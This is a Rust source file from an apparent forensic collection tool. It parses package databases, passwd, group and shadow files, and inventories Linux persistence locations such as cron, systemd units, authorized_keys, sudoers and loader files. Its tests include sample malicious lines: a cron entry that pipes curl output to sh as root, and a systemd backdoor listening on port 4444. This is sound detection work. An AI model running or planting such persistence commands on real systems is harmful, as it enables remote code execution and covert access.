//! File-based kinds, read through the source so they work on `--root` trees:
//! `packages` (dpkg status, apk; rpm databases noted), `users` (passwd,
//! group; shadow only with `--include-shadow`) and `persistence` (cron,
//! systemd units and enablement links, authorized_keys, sudoers, rc and
//! loader files: path, metadata, SHA-256 and the lines that matter).

use std::io::Read;

use sealbag_common::engine::{Facts, LiveCollector, LiveContext};
use sealbag_common::profile::LiveTarget;
use sealbag_common::source::{EntryKind, Metadata, SourcePath};
use serde_json::{json, Value};
use sha2::{Digest, Sha256};

use super::bodyfile::walk_source;
use super::{hex, lossy, read_at, read_source, Jsonl, SMALL_FILE_CAP, TABLE_CAP};

/// One `/etc/passwd` entry.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PasswdEntry {
    /// Login name.
    pub name: String,
    /// User id.
    pub uid: u32,
    /// Primary group id.
    pub gid: u32,
    /// Comment field.
    pub gecos: String,
    /// Home directory.
    pub home: String,
    /// Login shell.
    pub shell: String,
}

fn is_comment(line: &str) -> bool {
    let t = line.trim_start();
    t.is_empty() || t.starts_with('#')
}

/// Parses `/etc/passwd`; lines that are not 7 colon-separated fields with
/// numeric ids (NIS `+` lines, garbage) are skipped.
pub fn parse_passwd(text: &str) -> Vec<PasswdEntry> {
    text.lines()
        .filter(|l| !is_comment(l))
        .filter_map(|line| {
            let f: Vec<&str> = line.split(':').collect();
            if f.len() != 7 {
                return None;
            }
            Some(PasswdEntry {
                name: f[0].to_string(),
                uid: f[2].parse().ok()?,
                gid: f[3].parse().ok()?,
                gecos: f[4].to_string(),
                home: f[5].to_string(),
                shell: f[6].to_string(),
            })
        })
        .collect()
}

/// Parses `/etc/group` into `{name, gid, members}` objects.
pub fn parse_group(text: &str) -> Vec<Value> {
    text.lines()
        .filter(|l| !is_comment(l))
        .filter_map(|line| {
            let f: Vec<&str> = line.split(':').collect();
            if f.len() != 4 {
                return None;
            }
            let members: Vec<&str> = f[3].split(',').filter(|m| !m.is_empty()).collect();
            Some(json!({ "name": f[0], "gid": f[2].parse::<u32>().ok()?, "members": members }))
        })
        .collect()
}

/// What a shadow password field says, without judging it.
fn hash_type(field: &str) -> &'static str {
    match field {
        "" => "empty (no password)",
        f if f.starts_with('!') || f.starts_with('*') => "locked",
        f if f.starts_with("$1$") => "md5crypt",
        f if f.starts_with("$2") => "bcrypt",
        f if f.starts_with("$5$") => "sha256crypt",
        f if f.starts_with("$6$") => "sha512crypt",
        f if f.starts_with("$y$") => "yescrypt",
        f if f.starts_with("$gy$") => "gost-yescrypt",
        f if f.starts_with("$7$") => "scrypt",
        f if f.len() == 13 => "descrypt",
        _ => "unknown",
    }
}

/// Days since 1970 as a date (`YYYY-MM-DD`), for shadow's day counts.
fn day(days: &str) -> Option<String> {
    let d: i64 = days.parse().ok()?;
    let t = sealbag_common::source::Timestamp::new(d.checked_mul(86_400)?, 0).to_string();
    Some(t.get(..10)?.to_string())
}

/// Parses `/etc/shadow` (only read with `--include-shadow`).
pub fn parse_shadow(text: &str) -> Vec<Value> {
    text.lines()
        .filter(|l| !is_comment(l))
        .filter_map(|line| {
            let f: Vec<&str> = line.split(':').collect();
            if f.len() < 8 {
                return None;
            }
            Some(json!({
                "name": f[0],
                "password_hash": f[1],
                "hash_type": hash_type(f[1]),
                "last_change": day(f[2]),
                "min_days": f[3].parse::<i64>().ok(),
                "max_days": f[4].parse::<i64>().ok(),
                "warn_days": f[5].parse::<i64>().ok(),
                "inactive_days": f[6].parse::<i64>().ok(),
                "expires": day(f[7]),
            }))
        })
        .collect()
}

/// Parses dpkg's `status` file into `{name, version, status, architecture,
/// source}` objects (one per paragraph with a `Package:` field).
pub fn parse_dpkg_status(text: &str) -> Vec<Value> {
    let mut out = Vec::new();
    for para in text.split("\n\n") {
        let field = |key: &str| {
            para.lines()
                .find_map(|l| l.strip_prefix(key)?.strip_prefix(':').map(str::trim))
        };
        let Some(name) = field("Package") else {
            continue;
        };
        out.push(json!({
            "manager": "dpkg",
            "name": name,
            "version": field("Version"),
            "status": field("Status"),
            "architecture": field("Architecture"),
            "source": field("Source"),
            "installed_size_kib": field("Installed-Size").and_then(|s| s.parse::<u64>().ok()),
        }));
    }
    out
}

/// Parses Alpine's `/lib/apk/db/installed` (`P:` name, `V:` version).
pub fn parse_apk_installed(text: &str) -> Vec<Value> {
    let mut out = Vec::new();
    for para in text.split("\n\n") {
        let field = |key: &str| para.lines().find_map(|l| l.strip_prefix(key));
        if let Some(name) = field("P:") {
            out.push(json!({ "manager": "apk", "name": name, "version": field("V:"), "architecture": field("A:") }));
        }
    }
    out
}

/// A parser of a whole text table into records.
type TableParser = fn(&str) -> Vec<Value>;

/// `packages`: installed packages.
#[derive(Debug)]
pub struct PackagesCollector;

impl LiveCollector for PackagesCollector {
    fn kinds(&self) -> &'static [&'static str] {
        &["packages"]
    }
    fn collect(&self, _t: &LiveTarget, context: &mut LiveContext<'_>) -> Result<(), String> {
        let mut out = Jsonl::new(context)?;
        let mut facts = Facts::new();
        let parsers: [(&str, TableParser); 2] = [
            ("/var/lib/dpkg/status", parse_dpkg_status),
            ("/lib/apk/db/installed", parse_apk_installed),
        ];
        for (path, parse) in parsers {
            let read_at = read_at();
            match read_source(context.source, path, TABLE_CAP) {
                Ok(data) => {
                    for mut row in parse(&lossy(&data)) {
                        if let Some(o) = row.as_object_mut() {
                            o.insert("read_at".into(), read_at.clone().into());
                        }
                        out.write(&row)?;
                    }
                    facts.insert(path.into(), "parsed".into());
                }
                Err(super::ReadError::NotFound) => {}
                Err(e) => {
                    facts.insert(path.into(), e.into());
                }
            }
        }
        for rpm in [
            "/var/lib/rpm/rpmdb.sqlite",
            "/var/lib/rpm/Packages",
            "/usr/lib/sysimage/rpm/rpmdb.sqlite",
        ] {
            if let Some(sp) = SourcePath::parse(rpm.as_bytes()) {
                if let Ok(meta) = context.source.metadata(&sp) {
                    out.write(&json!({
                        "read_at": read_at(),
                        "manager": "rpm",
                        "database": rpm,
                        "size": meta.size,
                        "note": "rpm database present, not parsed: collect it as a file and query with `rpm --dbpath`",
                    }))?;
                }
            }
        }
        out.finish(context, "live/packages.jsonl", "files", facts)
    }
}

/// `users`: accounts and groups; shadow only when asked.
#[derive(Debug)]
pub struct UsersCollector {
    /// Whether `/etc/shadow` is read (`--include-shadow`).
    pub include_shadow: bool,
}

impl LiveCollector for UsersCollector {
    fn kinds(&self) -> &'static [&'static str] {
        &["users"]
    }
    fn collect(&self, _t: &LiveTarget, context: &mut LiveContext<'_>) -> Result<(), String> {
        let mut out = Jsonl::new(context)?;
        let mut facts = Facts::new();
        let read_at = read_at();
        match read_source(context.source, "/etc/passwd", SMALL_FILE_CAP * 16) {
            Ok(data) => {
                for u in parse_passwd(&lossy(&data)) {
                    out.write(&json!({
                        "read_at": read_at, "kind": "user", "name": u.name, "uid": u.uid,
                        "gid": u.gid, "gecos": u.gecos, "home": u.home, "shell": u.shell,
                    }))?;
                }
            }
            Err(e) => {
                facts.insert("/etc/passwd".into(), e.into());
            }
        }
        match read_source(context.source, "/etc/group", SMALL_FILE_CAP * 16) {
            Ok(data) => {
                for mut g in parse_group(&lossy(&data)) {
                    if let Some(o) = g.as_object_mut() {
                        o.insert("read_at".into(), read_at.clone().into());
                        o.insert("kind".into(), "group".into());
                    }
                    out.write(&g)?;
                }
            }
            Err(e) => {
                facts.insert("/etc/group".into(), e.into());
            }
        }
        out.finish(context, "live/users.jsonl", "files", facts)?;

        if self.include_shadow {
            let mut out = Jsonl::new(context)?;
            let mut facts = Facts::new();
            match read_source(context.source, "/etc/shadow", SMALL_FILE_CAP * 16) {
                Ok(data) => {
                    for mut s in parse_shadow(&lossy(&data)) {
                        if let Some(o) = s.as_object_mut() {
                            o.insert("read_at".into(), read_at.clone().into());
                        }
                        out.write(&s)?;
                    }
                }
                Err(e) => context.record_error("/etc/shadow", format!("/etc/shadow: {e}")),
            }
            facts.insert("requested_by".into(), "--include-shadow".into());
            out.finish(context, "live/shadow.jsonl", "files", facts)?;
        }
        Ok(())
    }
}

/// Where persistence hides: (category, path or `~/` path under every home,
/// walk depth: 0 for a single file).
const PERSISTENCE: &[(&str, &str, usize)] = &[
    ("cron", "/etc/crontab", 0),
    ("cron", "/etc/anacrontab", 0),
    ("cron", "/etc/cron.d", 1),
    ("cron", "/etc/cron.hourly", 1),
    ("cron", "/etc/cron.daily", 1),
    ("cron", "/etc/cron.weekly", 1),
    ("cron", "/etc/cron.monthly", 1),
    ("cron", "/var/spool/cron", 3),
    ("at", "/var/spool/at", 2),
    ("systemd", "/etc/systemd/system", 4),
    ("systemd", "/etc/systemd/user", 4),
    ("systemd", "/run/systemd/system", 4),
    ("systemd", "/usr/lib/systemd/system", 2),
    ("systemd", "/lib/systemd/system", 2),
    ("systemd-user", "~/.config/systemd/user", 4),
    ("ssh", "~/.ssh/authorized_keys", 0),
    ("ssh", "~/.ssh/authorized_keys2", 0),
    ("ssh", "/etc/ssh/sshd_config", 0),
    ("ssh", "/etc/ssh/sshd_config.d", 1),
    ("sudoers", "/etc/sudoers", 0),
    ("sudoers", "/etc/sudoers.d", 1),
    ("rc", "/etc/rc.local", 0),
    ("rc", "/etc/rc.d/rc.local", 0),
    ("rc", "/etc/init.d", 1),
    ("loader", "/etc/ld.so.preload", 0),
    ("loader", "/etc/ld.so.conf.d", 1),
    ("shell", "/etc/profile", 0),
    ("shell", "/etc/profile.d", 1),
    ("shell", "/etc/bash.bashrc", 0),
    ("shell", "~/.bashrc", 0),
    ("shell", "~/.profile", 0),
    ("shell", "~/.bash_profile", 0),
    ("shell", "~/.zshrc", 0),
    ("autostart", "/etc/xdg/autostart", 1),
    ("autostart", "~/.config/autostart", 1),
    ("udev", "/etc/udev/rules.d", 1),
    ("pam", "/etc/pam.d", 1),
];

/// Files larger than this are listed without a hash or lines (16 MiB).
const HASH_CAP: u64 = 16 << 20;
/// Lines kept per file, and characters per line.
const MAX_LINES: usize = 64;
const MAX_LINE: usize = 1024;

/// The lines of a persistence file that say what runs: not comments or
/// blank; for systemd units only `Exec*`, `WantedBy`, `OnCalendar`… lines.
pub fn meaningful_lines(category: &str, path: &str, text: &str) -> Vec<String> {
    let unit = category.starts_with("systemd") && !path.ends_with(".conf");
    text.lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#') && !l.starts_with(';'))
        .filter(|l| {
            !unit
                || [
                    "Exec",
                    "WantedBy",
                    "OnCalendar",
                    "OnBoot",
                    "OnUnitActive",
                    "ListenStream",
                    "User=",
                    "Environment",
                ]
                .iter()
                .any(|k| l.starts_with(k))
        })
        .take(MAX_LINES)
        .map(|l| l.chars().take(MAX_LINE).collect())
        .collect()
}

/// The home directories to look in: `/root` and each directory under `/home`.
fn homes(context: &LiveContext<'_>) -> Vec<String> {
    let mut out = vec!["/root".to_string()];
    if let Some(home) = SourcePath::parse(b"/home") {
        if let Ok(entries) = context.source.read_dir(&home) {
            let mut names: Vec<String> = entries
                .into_iter()
                .filter(|e| matches!(e.kind, None | Some(EntryKind::Directory)))
                .map(|e| format!("/home/{}", lossy(&e.name)))
                .take(100_000)
                .collect();
            names.sort();
            out.extend(names);
        }
    }
    out
}

fn hash_and_lines(
    context: &LiveContext<'_>,
    path: &SourcePath,
    category: &str,
) -> Result<(String, Vec<String>), String> {
    let opened = context.source.open(path, None).map_err(|e| e.to_string())?;
    let mut reader = opened.reader.take(HASH_CAP);
    let mut hasher = Sha256::new();
    let mut head = Vec::new();
    let mut buf = vec![0u8; 64 * 1024];
    loop {
        let n = match reader.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => n,
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
            Err(e) => return Err(format!("{}: {e}", path.display())),
        };
        hasher.update(&buf[..n]);
        if head.len() < 256 * 1024 {
            head.extend_from_slice(&buf[..n]);
        }
    }
    let text = lossy(&head);
    let lines = meaningful_lines(category, &path.display(), &text);
    Ok((hex(&hasher.finalize()), lines))
}

fn persistence_record(
    context: &LiveContext<'_>,
    category: &str,
    path: &SourcePath,
    meta: &Metadata,
) -> Value {
    let name = path.display();
    let mut record = json!({
        "read_at": read_at(),
        "category": category,
        "path": name,
        "type": meta.kind.name(),
        "size": meta.size,
        "mode": meta.mode.map(|m| format!("{:o}", m & 0o7777)),
        "uid": meta.uid,
        "gid": meta.gid,
        "mtime": meta.times.modified.map(|t| t.to_string()),
        "ctime": meta.times.changed.map(|t| t.to_string()),
    });
    let Some(o) = record.as_object_mut() else {
        return record;
    };
    match meta.kind {
        EntryKind::Symlink => {
            if let Ok(target) = context.source.read_link(path) {
                o.insert("link_target".into(), lossy(&target).into());
            }
            // An enablement link: /etc/systemd/system/multi-user.target.wants/x.service
            let parent = name.rsplit_once('/').map(|(p, _)| p).unwrap_or("");
            if let Some(wants) = parent
                .rsplit('/')
                .next()
                .filter(|d| d.ends_with(".wants") || d.ends_with(".requires"))
            {
                o.insert("enabled_by".into(), wants.into());
            }
        }
        EntryKind::File if meta.size <= HASH_CAP => match hash_and_lines(context, path, category) {
            Ok((sha, lines)) => {
                o.insert("sha256".into(), sha.into());
                o.insert("lines".into(), lines.into());
            }
            Err(e) => {
                o.insert("error".into(), e.into());
            }
        },
        EntryKind::File => {
            o.insert(
                "error".into(),
                format!("larger than {} MiB: not hashed", HASH_CAP >> 20).into(),
            );
        }
        _ => {}
    }
    record
}

/// Whether a directory above `path` is a symbolic link (the walk would then
/// describe the same files twice, or leave a mounted tree).
fn through_symlink(context: &LiveContext<'_>, path: &SourcePath) -> bool {
    let mut prefix = SourcePath::root();
    let components: Vec<&[u8]> = path.components().collect();
    for component in components.iter().take(components.len().saturating_sub(1)) {
        prefix = prefix.join(component);
        if matches!(context.source.metadata(&prefix), Ok(m) if m.kind == EntryKind::Symlink) {
            return true;
        }
    }
    false
}

/// `persistence`: where programs are made to start; see [`PERSISTENCE`].
#[derive(Debug)]
pub struct PersistenceCollector;

impl LiveCollector for PersistenceCollector {
    fn kinds(&self) -> &'static [&'static str] {
        &["persistence"]
    }
    fn collect(&self, _t: &LiveTarget, context: &mut LiveContext<'_>) -> Result<(), String> {
        let homes = homes(context);
        let mut roots: Vec<(&str, String, usize)> = Vec::new();
        for (category, spec, depth) in PERSISTENCE {
            match spec.strip_prefix("~/") {
                Some(rest) => roots.extend(
                    homes
                        .iter()
                        .map(|h| (*category, format!("{h}/{rest}"), *depth)),
                ),
                None => roots.push((category, spec.to_string(), *depth)),
            }
        }
        let mut out = Jsonl::new(context)?;
        let mut errors = 0u64;
        let mut seen = std::collections::HashSet::new();
        for (category, root, depth) in roots {
            if context.stop.is_set() {
                break;
            }
            let Some(sp) = SourcePath::parse(root.as_bytes()) else {
                continue;
            };
            if through_symlink(context, &sp) {
                // `/lib` → `/usr/lib` on merged-/usr systems: listed under its real path.
                continue;
            }
            let mut found = Vec::new();
            let result = walk_source(
                context.source,
                &sp,
                depth,
                50_000,
                context.stop,
                &mut |p, m| {
                    if m.kind != EntryKind::Directory {
                        found.push((p.clone(), m.clone()));
                    }
                },
            );
            if let Err(e) = result {
                if !matches!(e, sealbag_common::source::SourceError::NotFound { .. }) {
                    errors += 1;
                    tracing::debug!(%e, "persistence walk");
                }
            }
            for (p, m) in found {
                if seen.insert(p.clone()) {
                    let record = persistence_record(context, category, &p, &m);
                    out.write(&record)?;
                }
            }
        }
        let mut facts = Facts::new();
        facts.insert("unreadable_roots".into(), errors.into());
        out.finish(context, "live/persistence.jsonl", "files", facts)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn passwd_and_group_hostile_lines() {
        let text = "root:x:0:0:root:/root:/bin/bash\n# comment\n+::::::\nbad:x:notanumber:0:::/bin/sh\nshort:x:1\n\
                    eve:x:1001:1001:Eve,,,:/home/eve:/bin/zsh\nx:x:4294967296:0::/:/bin/sh\n";
        let users = parse_passwd(text);
        assert_eq!(users.len(), 2);
        assert_eq!(users[1].name, "eve");
        assert_eq!(users[1].uid, 1001);
        assert_eq!(users[1].shell, "/bin/zsh");
        let groups = parse_group("sudo:x:27:alice,bob\nempty:x:5:\nbad\n");
        assert_eq!(groups.len(), 2);
        assert_eq!(groups[0]["members"], json!(["alice", "bob"]));
        assert_eq!(groups[1]["members"], json!([]));
    }

    #[test]
    fn this_machines_passwd_matches_getent_count() {
        let text = std::fs::read_to_string("/etc/passwd").expect("passwd");
        let users = parse_passwd(&text);
        let expected = text
            .lines()
            .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
            .count();
        assert_eq!(users.len(), expected);
        assert!(users.iter().any(|u| u.name == "root" && u.uid == 0));
    }

    #[test]
    fn shadow_fields() {
        let rows = parse_shadow("root:$y$j9T$abc$def:19700:0:99999:7:::\nsvc:!:19000::::::\nnopw::0:0:99999:7:::\nbroken:x\n");
        assert_eq!(rows.len(), 3);
        assert_eq!(rows[0]["hash_type"], "yescrypt");
        assert_eq!(rows[0]["last_change"], "2023-12-09");
        assert_eq!(rows[1]["hash_type"], "locked");
        assert_eq!(rows[2]["hash_type"], "empty (no password)");
        assert_eq!(day("99999999999999999"), None);
    }

    #[test]
    fn dpkg_status() {
        let text = "Package: bash\nStatus: install ok installed\nVersion: 5.2.15-2+b2\nArchitecture: amd64\n\nPackage: old\nStatus: deinstall ok config-files\nVersion: 1\n\nGarbage\nno colon\n\n";
        let rows = parse_dpkg_status(text);
        assert_eq!(rows.len(), 2);
        assert_eq!(rows[0]["name"], "bash");
        assert_eq!(rows[0]["version"], "5.2.15-2+b2");
        assert_eq!(rows[1]["status"], "deinstall ok config-files");
        let apk = parse_apk_installed("C:Q1x\nP:musl\nV:1.2.4-r2\nA:x86_64\n\nP:busybox\nV:1.36\n");
        assert_eq!(apk.len(), 2);
        assert_eq!(apk[0]["version"], "1.2.4-r2");
    }

    #[test]
    fn this_machines_dpkg_status_count() {
        let Ok(text) = std::fs::read_to_string("/var/lib/dpkg/status") else {
            eprintln!("SKIP: no dpkg on this machine");
            return;
        };
        let packages = text.lines().filter(|l| l.starts_with("Package: ")).count();
        assert_eq!(parse_dpkg_status(&text).len(), packages);
    }

    #[test]
    fn unit_lines() {
        let unit = "[Unit]\nDescription=x\n\n[Service]\nExecStart=/tmp/.x/backdoor -p 4444\n# ExecStart=/nope\n[Install]\nWantedBy=multi-user.target\n";
        assert_eq!(
            meaningful_lines("systemd", "/etc/systemd/system/x.service", unit),
            vec![
                "ExecStart=/tmp/.x/backdoor -p 4444",
                "WantedBy=multi-user.target"
            ]
        );
        let cron = "# m h\n\n*/5 * * * * root curl http://x | sh\n";
        assert_eq!(
            meaningful_lines("cron", "/etc/crontab", cron),
            vec!["*/5 * * * * root curl http://x | sh"]
        );
        let long = "a".repeat(5000) + "\n";
        let many = long.repeat(500);
        let lines = meaningful_lines("cron", "x", &many);
        assert_eq!(lines.len(), MAX_LINES);
        assert_eq!(lines[0].len(), MAX_LINE);
    }
}
